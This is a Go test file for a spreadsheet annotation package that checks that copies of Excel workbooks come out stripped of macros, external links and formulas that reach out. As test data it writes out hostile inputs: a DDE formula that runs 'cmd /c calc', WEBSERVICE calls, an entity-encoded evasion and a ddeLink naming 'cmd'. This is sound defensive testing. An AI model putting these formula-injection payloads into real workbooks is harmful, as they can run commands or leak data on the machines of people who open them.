package annotate_test

import (
	"bytes"
	"errors"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"bilan/report/annotate"
	"bilan/report/internal/packed"
	"bilan/report/sheet"
	"bilan/report/sheet/file"
	"bilan/report/source"
	"bilan/report/wording"
)

func TestReachesOut(t *testing.T) {
	for formula, want := range map[string]bool{
		"SUM(A1:A9)": false, "Tableau1[2024]+Feuille2!A1": false, "SUM(Tableau1[[#Headers],[Prévu]])": false, "Tableau1[Col]+'Une feuille'!A1": false,
		`A1&"a|b"`: false, `"[1]Feuille!A1"`: false, "IMAGES+1": false, "MONIMAGE(A1)": false, "'Été 2024'!A1": false, "Tableau1[Réalisé]!A1": true,
		"[1]Feuille!A1": true, "'[1]Une feuille'!A1": true, "'[autre.xlsx]Bilan 2024'!$B$2": true, "[1]!Total": true, `'C:\dossier\autre.xlsx'!Total`: true,
		`'https://exemple.fr/[x.xlsx]F'!A1`: true, `cmd|'/c calc'!A0`: true, "MSEXCEL|'x'!'y'": true,
		`_xlfn.WEBSERVICE("http://exemple.fr/"&A1)`: true, "webservice(A1)": true, "1+_xlfn.IMAGE(A1)": true, `HYPERLINK("file:///c:/x","x")`: true, `RTD("x",,"y")`: true,
		`DDE("soffice";"x";"y")`: true, "_xll.MaFonction(A1)": true, "CUBEVALUE(A1)": true, `CALL("urlmon","x")`: true, "REGISTER.ID(A1,A2)": true, "WEBSERVICE (A1)": true,
	} {
		if got := annotate.ReachesOut(formula); got != want {
			t.Errorf("%s: %v", formula, got)
		}
	}
}

// armed is a workbook with a table, and what a case adds to its parts: a text that
// ends with the one it is put before, or a part of its own.
func armed(t *testing.T, edits map[string][2]string, more map[string]string) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	must := func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	}
	must(f.SetSheetName("Sheet1", "Bilan 2024"))
	must(f.SetSheetRow("Bilan 2024", "A1", &[]any{"Intitulé", "Réalisé", "Lien"}))
	must(f.SetSheetRow("Bilan 2024", "A2", &[]any{"Ateliers", "beaucoup", "voir"}))
	must(f.SetCellValue("Bilan 2024", "D2", 12))
	must(f.SetCellValue("Bilan 2024", "D3", 13))
	must(f.SetCellHyperLink("Bilan 2024", "C2", "https://exemple.fr/a", "External"))
	must(f.SetCellHyperLink("Bilan 2024", "C3", "file:///C:/secret.xlsx", "External"))
	bold, err := f.NewStyle(&excelize.Style{Font: &excelize.Font{Bold: true}})
	must(err)
	must(f.SetCellStyle("Bilan 2024", "A1", "D1", bold))
	var b bytes.Buffer
	must(f.Write(&b))
	all := packed.Parts(t, b.Bytes())
	for name, e := range edits {
		if !strings.Contains(all[name], e[0]) {
			t.Fatalf("%s has no %s: %s", name, e[0], all[name])
		}
		all[name] = strings.Replace(all[name], e[0], e[1], 1)
	}
	for name, text := range more {
		all[name] = text
	}
	return zipped(t, all)
}

const (
	sheet1   = "xl/worksheets/sheet1.xml"
	bookRels = "xl/_rels/workbook.xml.rels"
	book     = "xl/workbook.xml"
	rel      = `<Relationship Id="rId%" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/`
)

var value = [2]string{`<v>12</v>`, ""}

// What runs or reaches out is in no copy, its values and all else are, and the
// first sheet says so.
func TestDisarm(t *testing.T) {
	formula := func(f string) map[string][2]string {
		return map[string][2]string{sheet1: {value[0], f + value[0]}}
	}
	external := map[string]string{
		"xl/externalLinks/externalLink1.xml":            `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
		"xl/externalLinks/_rels/externalLink1.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/secret.xlsx" TargetMode="External"/></Relationships>`,
	}
	for name, c := range map[string]struct {
		edits map[string][2]string
		more  map[string]string
	}{
		"a file hyperlink": {},
		"macros": {map[string][2]string{
			bookRels:              {"</Relationships>", `<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`},
			"[Content_Types].xml": {"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"},
		}, map[string]string{"xl/vbaProject.bin": "\x00secret"}},
		"a ribbon with macros": {map[string][2]string{"_rels/.rels": {"</Relationships>", `<Relationship Id="rId91" Type="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility" Target="customUI/customUI.xml"/></Relationships>`}},
			map[string]string{"customUI/customUI.xml": `<customUI onLoad="secret"/>`}},
		"a link to another file": {map[string][2]string{
			bookRels: {"</Relationships>", strings.Replace(rel, "%", "92", 1) + `externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`},
			book:     {"</sheets>", `</sheets><externalReferences><externalReference r:id="rId92"/></externalReferences><definedNames><definedName name="secret">[1]Feuille!$A$1</definedName></definedNames>`},
			sheet1:   {value[0], "<f>[1]Feuille!A1</f>" + value[0]},
		}, external},
		"WEBSERVICE":         {formula(`<f>_xlfn.WEBSERVICE("http://secret.fr")</f>`), nil},
		"DDE":                {formula(`<f>cmd|'/c secret'!A0</f>`), nil},
		"an array formula":   {formula(`<f t="array" ref="D2">RTD("secret",,"x")</f>`), nil},
		"a shared formula":   {formula(`<f t="shared" ref="D2:D3" si="0">HYPERLINK("secret")</f>`), nil},
		"a letter as entity": {formula(`<f>&#87;EBSERVICE("http://secret.fr")</f>`), nil},
	} {
		t.Run(name, func(t *testing.T) {
			data := armed(t, c.edits, c.more)
			copied := marked(t, data, someNotes[:1])
			all := packed.Parts(t, copied)
			for part, text := range all {
				if i := strings.Index(text, "secret"); i >= 0 {
					t.Errorf("%s holds %q", part, text[max(0, i-60):min(len(text), i+20)])
				}
				if strings.Contains(part, "vba") || strings.Contains(part, "externalLink") || strings.Contains(text, "externalReference") || strings.Contains(text, "macroEnabled") || strings.Contains(part, "customUI") {
					t.Errorf("%s is in the copy", part)
				}
			}
			if !strings.Contains(strings.Join(values(all), " "), "https://exemple.fr/a") {
				t.Error("the web address is gone")
			}
			if !strings.Contains(all["xl/worksheets/sheet2.xml"], "Par sécurité") {
				t.Error("the first sheet does not say so")
			}
			f, err := excelize.OpenReader(bytes.NewReader(copied))
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if v, _ := f.GetCellValue("Bilan 2024", "D2"); v != "12" {
				t.Errorf("D2 is %q", v)
			}
			if dangling := regexp.MustCompile(`<hyperlinks\s*/>|<hyperlinks></hyperlinks>`).FindString(all[sheet1]); dangling != "" {
				t.Error(dangling)
			}
		})
	}
}

func values(m map[string]string) (out []string) {
	for _, v := range m {
		out = append(out, v)
	}
	return out
}

// What cannot be taken out is refused, so that the copy is made of the cells.
func TestNotDisarmed(t *testing.T) {
	sheetRel := func(kind, target string) map[string][2]string {
		return map[string][2]string{"xl/worksheets/_rels/sheet1.xml.rels": {"</Relationships>", strings.Replace(rel, "%", "95", 1) + kind + `" Target="` + target + `"/></Relationships>`}}
	}
	for name, edits := range map[string]map[string][2]string{
		"an embedded object":         sheetRel("oleObject", "../embeddings/oleObject1.bin"),
		"a control":                  sheetRel("control", "../activeX/activeX1.xml"),
		"a picture elsewhere":        sheetRel("image", `http://exemple.fr/x.png" TargetMode="External`),
		"a query":                    sheetRel("queryTable", "../queryTables/queryTable1.xml"),
		"something unheard of":       sheetRel("quelqueChose", "../x.xml"),
		"a macro sheet":              {bookRels: {"</Relationships>", `<Relationship Id="rId96" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>`}},
		"a format that reaches out":  {sheet1: {"</sheetData>", `</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>`}},
		"a choice from another file": {sheet1: {"</sheetData>", `</sheetData><dataValidations count="1"><dataValidation type="list" sqref="A2"><formula1>[1]Feuille!$A$1</formula1></dataValidation></dataValidations>`}},
		"letters of two bytes":       {sheet1: {"<sheetData>", "<sheetData>\x00"}},
	} {
		var b bytes.Buffer
		if err := annotate.Annotate(&b, armed(t, edits, nil), someNotes[:1], wording.For("fr")); !errors.Is(err, annotate.ErrNotAnnotated) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// A workbook without anything active is copied as it is, and nothing is said.
func TestNothingToDisarm(t *testing.T) {
	copied := packed.Parts(t, marked(t, readAll(t, annotated), someNotes))
	for _, text := range copied {
		if strings.Contains(text, "Par sécurité") {
			t.Error("the first sheet speaks of something that was taken out")
		}
	}
}

// A formula whose result is an empty text keeps it, and one that has no result
// gets none: with either the copy holds the cells as they were sent.
func TestEmptyResults(t *testing.T) {
	for _, result := range []string{"<v></v>", "<v/>", ""} {
		data := armed(t, map[string][2]string{sheet1: {`<c r="D2"><v>12</v></c>`, `<c r="D2" t="str"><f>IF(A2="","","")</f>` + result + `</c>`}}, nil)
		if before, after := notCalculated(t, data), notCalculated(t, marked(t, data, someNotes[:1])); before != after || (before == 0) != (result != "") {
			t.Errorf("%q: %d cells are not calculated, %d in the copy", result, before, after)
		}
	}
}

// notCalculated counts the cells of a workbook without a result, but in the list.
func notCalculated(t *testing.T, data []byte) (n int) {
	t.Helper()
	book, err := file.Open("x.xlsx", data, sheet.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range book.Sheets {
		for row, err := range s.Rows() {
			if err != nil {
				t.Fatal(err)
			}
			for _, cell := range row.Cells {
				if cell.Kind == source.NotCalculated && !annotate.IsList(s.Name) {
					n++
				}
			}
		}
	}
	return n
}

// Sheets that would take too much memory are refused, so that the copy is made of
// the cells; only those with notes count.
func TestTooLargeToMark(t *testing.T) {
	data := armed(t, map[string][2]string{sheet1: {"</sheetData>", "<row r=\"9\"><c r=\"A9\" t=\"inlineStr\"><is><t>" + strings.Repeat("x", 13<<20) + "</t></is></c></row></sheetData>"}}, nil)
	for pos, want := range map[source.Pos]bool{at("Bilan 2024", 2, 2): true, at("Autre", 2, 2): false} {
		var b bytes.Buffer
		err := annotate.Annotate(&b, data, []annotate.Note{{Pos: pos, Severity: source.Err}}, wording.For("fr"))
		if errors.Is(err, annotate.ErrNotAnnotated) != want {
			t.Errorf("%v: %v", pos, err)
		}
	}
}

// Very many notes are listed, with links for the first of them, and soon.
func TestManyNotes(t *testing.T) {
	notes := make([]annotate.Note, 101_000)
	for i := range notes {
		notes[i] = annotate.Note{Pos: at("Bilan 2024", i+2, 2), Severity: source.Err, Title: "Nombre illisible", Message: "« beaucoup » n’est pas un nombre", Hint: "saisir un nombre"}
	}
	list := packed.Parts(t, marked(t, armed(t, nil, nil), notes))["xl/worksheets/sheet2.xml"]
	if rows, links := strings.Count(list, "<row "), strings.Count(list, "<hyperlink "); rows != 100_000+7 || links != 5_000 {
		t.Errorf("%d rows, %d links", rows, links)
	}
	if !strings.Contains(list, "et 1000 autres") {
		t.Error("the notes left out are not told")
	}
}
